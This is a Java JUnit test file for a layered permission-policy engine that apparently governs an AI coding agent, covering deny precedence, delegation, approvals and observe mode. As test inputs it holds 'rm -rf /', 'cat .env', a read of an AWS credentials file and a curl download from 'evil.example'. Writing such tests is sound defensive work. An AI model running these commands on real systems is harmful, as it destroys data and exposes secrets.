package dev.countersign.policy.layer;

import static dev.countersign.policy.language.Effect.ALLOW;
import static dev.countersign.policy.language.Effect.DENY;
import static dev.countersign.policy.language.Effect.REQUIRE_APPROVAL;
import static dev.countersign.policy.language.Effect.WARN;
import static dev.countersign.policy.layer.Layered.ORGANISATION;
import static dev.countersign.policy.layer.Layered.ROOT;
import static dev.countersign.policy.layer.Layered.TEAM;
import static dev.countersign.policy.layer.Layered.layers;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.policy.Judged;
import dev.countersign.policy.condition.Circumstances;
import dev.countersign.policy.language.Effect;
import dev.countersign.policy.language.Mode;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The statements of the specification about layers, one by one. */
class LayersTest {
    private static final String BACKEND = "backend/.agent-policy.override.yml";
    private static final String DEEPER = "backend/gen/.agent-policy.override.yml";
    private static final String OPEN =
            "defaults: {filesystem.read: allow, filesystem.write: allow, command: allow, network: allow, mcp: allow}\n";

    @Test
    void the_emergency_set_stands_above_all() {
        var policy =
                layers(
                        ORGANISATION,
                        "rules: [{id: all, effect: allow, match: {effect: [\"*\"]}}]\n" + OPEN);

        assertThat(policy.bash("rm -rf /")).isEqualTo(DENY);
    }

    @Test
    void deny_wins_from_any_layer() {
        String deny = "permissions: {filesystem: {deny: [\"**/x\"]}}";

        for (String file : new String[] {ORGANISATION, TEAM, ROOT, BACKEND, DEEPER}) {
            var policy =
                    layers(ORGANISATION, OPEN, TEAM, OPEN, ROOT, OPEN, BACKEND, OPEN, DEEPER, OPEN)
                            .with(file, OPEN + deny);

            assertThat(policy.write("backend/gen/x")).as(file).isEqualTo(DENY);
        }
    }

    @Test
    void effects_of_several_layers_combine_by_the_strongest() {
        var policy =
                layers(
                        ORGANISATION, rule("warn"),
                        ROOT, rule("require_approval"),
                        BACKEND, rule("allow"));

        assertThat(policy.write("backend/x")).isEqualTo(REQUIRE_APPROVAL);
    }

    private static String rule(String effect) {
        return "rules: [{id: x, effect: %s, match: {paths: [x, \"backend/x\"]}}]".formatted(effect);
    }

    @Test
    void a_pack_that_one_layer_observes_and_another_enforces_is_in_force_and_says_why() {
        String pack = "extends: [{pack: builtin/baseline@1}]";
        var policy = layers(ORGANISATION, "mode: observe\n" + pack, ROOT, pack);

        var verdict = policy.verdict("cat .env");

        assertThat(verdict.effect()).isEqualTo(DENY);
        assertThat(verdict.reason()).isNotEqualTo("Nothing speaks against it.");
        assertThat(verdict.rules())
                .anyMatch(rule -> rule.id().equals("secrets.read") && !rule.observed());
    }

    @Test
    void a_lower_layer_may_always_restrict() {
        var policy =
                layers(
                        ORGANISATION, "permissions: {filesystem: {allow: [\"**\"]}}",
                        BACKEND, "permissions: {filesystem: {deny: [gen]}}");

        assertThat(policy.write("backend/gen/a")).isEqualTo(DENY);
        assertThat(policy.write("gen/a")).isEqualTo(ALLOW);
    }

    @Test
    void a_lower_layer_opens_nothing_that_a_rule_above_closes() {
        var policy =
                layers(
                        ROOT, "permissions: {filesystem: {deny: [\"backend/secrets/**\"]}}",
                        BACKEND,
                                "permissions: {filesystem: {allow: [\"secrets/test-fixtures/**\"]}}");

        assertThat(policy.write("backend/secrets/test-fixtures/a")).isEqualTo(DENY);
    }

    @Test
    void a_root_that_only_denies_leaves_lists_open() {
        var policy =
                layers(
                        ROOT, "permissions: {filesystem: {deny: [secrets]}}",
                        BACKEND, "permissions: {filesystem: {allow: [\"gen/**\"]}}");

        assertThat(policy.write("backend/gen/a")).isEqualTo(ALLOW);
        assertThat(policy.write("gen/a")).isEqualTo(WARN);
    }

    @Test
    void a_closed_list_above_stays_closed() {
        var policy =
                layers(
                        ROOT, "permissions: {filesystem: {allow: [\"src/**\"]}}",
                        BACKEND, "permissions: {filesystem: {allow: [\"gen/**\"]}}");

        assertThat(policy.write("backend/gen/a")).isEqualTo(DENY);
    }

    @Test
    void a_delegated_list_and_those_below_it_are_one_list() {
        var policy =
                layers(
                        ROOT,
                        "delegate: [filesystem.allow]\npermissions: {filesystem: {allow: [\"**/src/**\"]}}",
                        BACKEND,
                        "permissions: {filesystem: {allow: [\"gen/**\"]}}");

        assertThat(policy.write("backend/gen/a")).isEqualTo(ALLOW);
        assertThat(policy.write("backend/src/a")).isEqualTo(ALLOW);
        assertThat(policy.write("backend/other/a")).isEqualTo(DENY);
    }

    @Test
    void a_delegated_list_is_widened_only_inside_the_overrides_own_folder() {
        var policy =
                layers(
                        ROOT,
                        "delegate: [filesystem.allow]\npermissions: {filesystem: {allow: [\"src/**\"]}}",
                        BACKEND,
                        "permissions: {filesystem: {allow: [\"**\"]}}");

        assertThat(policy.write("backend/a")).isEqualTo(ALLOW);
        assertThat(policy.write("backend/../a")).isEqualTo(DENY);
        assertThat(policy.write("frontend/a")).isEqualTo(DENY);
        assertThat(policy.bash("cp x $DIR/a")).isGreaterThanOrEqualTo(REQUIRE_APPROVAL);
    }

    @Test
    void delegation_of_one_layer_opens_nothing_of_another() {
        var policy =
                layers(
                        ORGANISATION, "permissions: {filesystem: {allow: [\"src/**\"]}}",
                        ROOT,
                                "delegate: [filesystem.allow]\npermissions: {filesystem: {allow: [\"**\"]}}",
                        BACKEND, "permissions: {filesystem: {allow: [\"gen/**\"]}}");

        assertThat(policy.write("backend/gen/a")).isEqualTo(DENY);
    }

    @Test
    void commands_hosts_and_servers_are_delegated_as_well() {
        String lists =
                """
                permissions:
                  commands: {allow: ["%1$s"]}
                  network: {allow_outbound: false, exceptions: ["%1$s.example"]}
                  mcp: {servers: [{name: %1$s}]}
                """;
        String delegated = "delegate: [commands.allow, network.exceptions, mcp.servers]\n";
        var closed = layers(ORGANISATION, lists.formatted("make"), ROOT, lists.formatted("jira"));
        var open = closed.with(ORGANISATION, delegated + lists.formatted("make"));

        assertThat(closed.bash("jira list")).isEqualTo(DENY);
        assertThat(open.bash("jira list")).isEqualTo(ALLOW);
        assertThat(closed.call("mcp__jira__get_issue", Map.of())).isEqualTo(DENY);
        assertThat(open.call("mcp__jira__get_issue", Map.of())).isEqualTo(ALLOW);
        assertThat(closed.call("WebFetch", Map.of("url", "https://jira.example/"))).isEqualTo(DENY);
        assertThat(open.call("WebFetch", Map.of("url", "https://jira.example/"))).isEqualTo(ALLOW);
    }

    @Test
    void defaults_only_get_stricter_on_the_way_down() {
        var weaker = layers(ORGANISATION, "defaults: {command: deny}", ROOT, OPEN);
        var stricter = layers(ORGANISATION, OPEN, ROOT, "defaults: {command: deny}");

        assertThat(weaker.bash("make")).isEqualTo(DENY);
        assertThat(stricter.bash("make")).isEqualTo(DENY);
    }

    @Test
    void a_rule_below_opens_nothing_against_a_stated_default_above() {
        var policy =
                layers(
                        ORGANISATION, "defaults: {command: require_approval}",
                        ROOT, "permissions: {commands: {allow: [make]}}");

        assertThat(policy.bash("make")).isEqualTo(REQUIRE_APPROVAL);
        assertThat(
                        policy.with(
                                        ORGANISATION,
                                        "defaults: {command: require_approval}\ndelegate: [commands.allow]")
                                .bash("make"))
                .isEqualTo(ALLOW);
    }

    @Test
    void a_rule_above_is_not_closed_by_a_default_below() {
        var policy =
                layers(
                        ORGANISATION, "rules: [{id: m, effect: allow, match: {command: [make]}}]",
                        ROOT, "defaults: {command: deny}");

        assertThat(policy.bash("make")).isEqualTo(ALLOW);
        assertThat(policy.bash("npm test")).isEqualTo(DENY);
    }

    @Test
    void what_only_observes_below_observes_its_own_rules_alone() {
        var policy =
                layers(
                        ORGANISATION, "permissions: {commands: {deny: [make]}}",
                        ROOT,
                                "mode: observe\npermissions: {commands: {deny: [make, npm], allow: [cat]}}");

        assertThat(policy.bash("make")).isEqualTo(DENY);
        assertThat(policy.bash("npm test")).isEqualTo(WARN);
        assertThat(policy.bash("rm -rf /")).isEqualTo(DENY);
        assertThat(policy.bash("cat .env")).isEqualTo(DENY);
        assertThat(policy.verdict("npm test").wouldBe()).isEqualTo(DENY);
        assertThat(policy.verdict("npm test").mode()).isEqualTo(Mode.ENFORCE);
    }

    @Test
    void what_enforces_below_is_in_force_although_those_above_observe() {
        var policy =
                layers(
                        ORGANISATION, "mode: observe\npermissions: {commands: {deny: [npm]}}",
                        ROOT, "permissions: {commands: {deny: [make]}}");

        assertThat(policy.bash("make")).isEqualTo(DENY);
        assertThat(policy.bash("npm test")).isEqualTo(WARN);
    }

    @Test
    void an_observing_override_beneath_an_enforcing_root_changes_nothing() {
        var policy =
                layers(
                        ROOT, "permissions: {filesystem: {deny: [\"**/a\"]}}",
                        BACKEND,
                                "mode: observe\npermissions: {filesystem: {allow: [\"**\"], deny: [b]}}");

        assertThat(policy.write("backend/a")).isEqualTo(DENY);
        assertThat(policy.write("backend/b")).isEqualTo(WARN);
        assertThat(policy.write("backend/c")).isEqualTo(WARN);
    }

    @Test
    void always_enforced_above_holds_whatever_observes() {
        String rule =
                "mode: observe\nrules: [{id: m, effect: deny, always_enforce: true, match: {command: [make]}}]";
        var policy = layers(ORGANISATION, rule, ROOT, "mode: observe");

        assertThat(policy.bash("make")).isEqualTo(DENY);
    }

    @Test
    void bypass_never_wins_from_any_layer() {
        String plain = "rules: [{id: m, effect: deny, match: {command: [make]}}]";
        String never = "rules: [{id: m, effect: deny, bypass: never, match: {command: [make]}}]";

        assertThat(layers(ORGANISATION, plain, ROOT, plain).verdict("make").bypassable()).isTrue();
        assertThat(layers(ORGANISATION, never, ROOT, plain).verdict("make").bypassable()).isFalse();
        assertThat(layers(ORGANISATION, plain, ROOT, never).verdict("make").bypassable()).isFalse();
    }

    @Test
    void approvers_of_a_lower_layer_are_asked_besides_and_never_instead() {
        var policy =
                layers(
                        ORGANISATION, approval("groups: [security], quorum: 2, ttl: 30m"),
                        ROOT, approval("groups: [developers], quorum: 1, ttl: 2h"));

        var approval = policy.verdict("make").approval().orElseThrow();

        assertThat(approval.panels())
                .extracting(panel -> panel.groups() + " " + panel.quorum())
                .containsExactly("[security] 2", "[developers] 1");
        assertThat(approval.ttl()).isEqualTo(java.time.Duration.ofMinutes(30));
    }

    @Test
    void who_approves_by_default_above_still_does() {
        var policy =
                layers(
                        ORGANISATION,
                        "defaults: {command: require_approval}",
                        ROOT,
                        approval("groups: [developers]"));

        assertThat(policy.verdict("make").approval().orElseThrow().panels())
                .extracting(panel -> panel.groups().toString())
                .containsExactly("[approvers]", "[developers]");
    }

    private static String approval(String who) {
        return "rules: [{id: m, effect: require_approval, approval: {%s}, match: {command: [make]}}]"
                .formatted(who);
    }

    @Test
    void audit_and_the_terms_of_a_bypass_only_get_stricter() {
        var policies =
                layers(
                                ORGANISATION,
                                "audit: {retention_days: 365, alert_on_deny: true}\nbypass: {max_duration: 1h, min_reason: 20}",
                                ROOT,
                                "audit: {retention_days: 30, log_all_actions: false}\nbypass: {max_duration: 4h, min_reason: 5, require_incident: true}")
                        .set();

        assertThat(policies.audit().retentionDays()).hasValue(365);
        assertThat(policies.audit().logAllActions()).isTrue();
        assertThat(policies.audit().alertOnDeny()).isTrue();
        assertThat(policies.bypass().maxDuration()).hasValue(java.time.Duration.ofHours(1));
        assertThat(policies.bypass().minReason()).hasValue(20);
        assertThat(policies.bypass().requireIncident()).isTrue();
    }

    @Test
    void the_smallest_limit_holds() {
        var policy =
                layers(
                        ORGANISATION, OPEN + "constraints: {max_actions_per_minute: 9}",
                        ROOT, "mode: observe\nconstraints: {max_actions_per_minute: 3}",
                        TEAM, "constraints: {max_actions_per_minute: 5}");

        assertThat(policy.after(4)).isEqualTo(ALLOW);
        assertThat(policy.after(6)).isEqualTo(DENY);
    }

    @Test
    void session_scopes_of_several_layers_are_intersected() {
        String scope = "session_scope: {signal: {allowed_files: [\"%s\"]}}\n" + OPEN;
        var policy = layers(ORGANISATION, scope.formatted("a/**"), ROOT, scope.formatted("**/b"));

        assertThat(policy.call("Read", Map.of("file_path", Judged.ROOT + "/a/b"))).isEqualTo(ALLOW);
        assertThat(policy.call("Read", Map.of("file_path", Judged.ROOT + "/a/c"))).isEqualTo(DENY);
        assertThat(policy.call("Read", Map.of("file_path", Judged.ROOT + "/b"))).isEqualTo(DENY);
    }

    @Test
    void an_override_applies_by_target_path_and_not_by_working_directory() {
        var policy = layers(ROOT, OPEN, BACKEND, "permissions: {filesystem: {deny: [\"a/**\"]}}");

        assertThat(policy.write("backend/a/x")).isEqualTo(DENY);
        assertThat(policy.bash("cd backend && touch a/x")).isEqualTo(DENY);
        assertThat(policy.bash("cd backend && touch ../a/x")).isEqualTo(ALLOW);
        assertThat(policy.write("a/x")).isEqualTo(ALLOW);
    }

    @Test
    void a_folder_that_holds_the_overrides_folder_is_a_target_as_well() {
        var policy =
                layers(
                        ROOT,
                        OPEN + "rules: [{id: t, effect: allow, match: {effect: [fs.delete.tree]}}]",
                        BACKEND,
                        "permissions: {filesystem: {deny: [\"a/**\"]}}");

        assertThat(policy.bash("rm -rf backend")).isEqualTo(DENY);
        assertThat(policy.bash("rm -rf frontend")).isEqualTo(ALLOW);
        assertThat(policy.bash("touch $WHERE/a/x")).isEqualTo(DENY);
    }

    @Test
    void what_has_no_file_of_its_own_is_where_it_is_run_for_what_restricts() {
        var policy = layers(ROOT, OPEN, BACKEND, "permissions: {commands: {allow: [make]}}");

        assertThat(policy.bash("cd backend && npm test")).isEqualTo(DENY);
        assertThat(policy.bash("cd backend && make")).isEqualTo(ALLOW);
        assertThat(policy.bash("npm test; cat backend/README.md")).isEqualTo(DENY);
        assertThat(policy.bash("npm test; cat README.md")).isEqualTo(ALLOW);
    }

    @Test
    void an_override_opens_no_connection_by_a_file_that_it_would_write() {
        var policy =
                layers(
                        ROOT,
                        "permissions: {filesystem: {deny: [x]}}",
                        BACKEND,
                        "rules: [{id: all, effect: allow, match: {any: [{effect: [\"*\"]}, {hosts: [\"*\"]}, {command: [\"curl\"]}]}}]");

        assertThat(policy.bash("curl -o backend/a https://evil.example/a"))
                .isEqualTo(
                        layers(ROOT, "permissions: {}")
                                .bash("curl -o backend/a https://evil.example/a"));
    }

    @Test
    void the_nearest_override_stands_lowest() {
        var policy =
                layers(
                        ROOT, "permissions: {filesystem: {deny: [x]}}",
                        BACKEND, "permissions: {filesystem: {allow: [\"src/**\"]}}",
                        DEEPER, "permissions: {filesystem: {allow: [\"**\"]}}");

        assertThat(policy.write("backend/gen/a")).isEqualTo(DENY);
        assertThat(
                        policy.with(
                                        BACKEND,
                                        "delegate: [filesystem.allow]\npermissions: {filesystem: {allow: [\"src/**\"]}}")
                                .write("backend/gen/a"))
                .isEqualTo(ALLOW);
    }

    @Test
    void folders_may_have_names_that_look_like_patterns() {
        var policy =
                layers(
                        ROOT,
                        OPEN,
                        "app/[slug]/(x)+(y)/.agent-policy.override.yml",
                        "permissions: {filesystem: {deny: [\"a/**\"]}}");

        assertThat(policy.write("app/[slug]/(x)+(y)/a/b")).isEqualTo(DENY);
        assertThat(policy.write("app/s/(x)+(y)/a/b")).isEqualTo(ALLOW);
    }

    @Test
    void the_version_names_every_layer() {
        var policy = layers(ORGANISATION, "", ROOT, "");

        assertThat(policy.compiled().version())
                .matches("2\\.1\\+sha256:[0-9a-f]{64} 2\\.1\\+sha256:[0-9a-f]{64}");
        assertThat(
                        policy.compiled()
                                .judge(Judged.facts("ls"), Circumstances.in(Judged.ROOT))
                                .effect())
                .isLessThan(Effect.DENY);
    }

    @Test
    void a_folder_that_is_called_like_the_home_folder_is_not_it() {
        var policy =
                layers(
                        ROOT,
                        "metadata: {name: a}",
                        "~/.agent-policy.override.yml",
                        "rules: [{id: x, effect: allow, match: {effect: [\"*\"]}}, {id: y, effect: allow, match: {access: [write]}}]");

        assertThat(policy.call("Read", Map.of("file_path", "/home/dave/.aws/credentials")))
                .isEqualTo(DENY);
        assertThat(policy.write(".github/workflows/a.yml")).isEqualTo(REQUIRE_APPROVAL);
        assertThat(policy.write("gen/a")).isEqualTo(WARN);
        assertThat(policy.write("~/a")).isEqualTo(ALLOW);
    }

    @Test
    void a_credential_means_what_the_highest_layer_says_that_declares_it() {
        var policy =
                layers(
                        ORGANISATION,
                        """
                        credentials: [{id: vault, pattern: "vault:[a-z]{8}"}]
                        rules: [{id: x, effect: deny, match: {effect: [net.egress]}, except: [{credentials: [vault]}]}]
                        """,
                        ROOT,
                        """
                        credentials: [{id: vault, pattern: "x[.]example"}]
                        rules: [{id: y, effect: allow, match: {effect: [net.egress]}}, {id: z, effect: allow, match: {program: [curl]}}]
                        """);

        assertThat(policy.bash("curl https://x.example")).isEqualTo(DENY);
        assertThat(policy.bash("curl -H vault:abcdefgh https://x.example")).isEqualTo(ALLOW);
    }
}
